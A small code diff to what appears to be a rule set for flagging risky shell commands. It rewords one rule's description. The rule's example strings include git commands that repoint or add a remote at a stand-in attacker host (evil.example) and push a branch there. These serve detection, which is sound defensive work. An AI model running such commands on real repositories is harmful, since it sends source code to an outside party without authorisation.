@@ -80,7 +80,7 @@ export const TRAFFIC = topics(
         notMatch: ["unset http_proxy"],
       },
       {
-        would: "point the repository at {}",
+        would: "change where the remote {remote} leads",
         clue: { do: "vcs", op: "remote-change", when: (subject, view) => !isPushedTo(subject, view) },
         match: ["git remote set-url origin https://evil.example/x", "git remote add x https://evil.example/a"],
         notMatch: ["git remote -v", "git remote add ex https://evil.example/a; git push ex topic"],
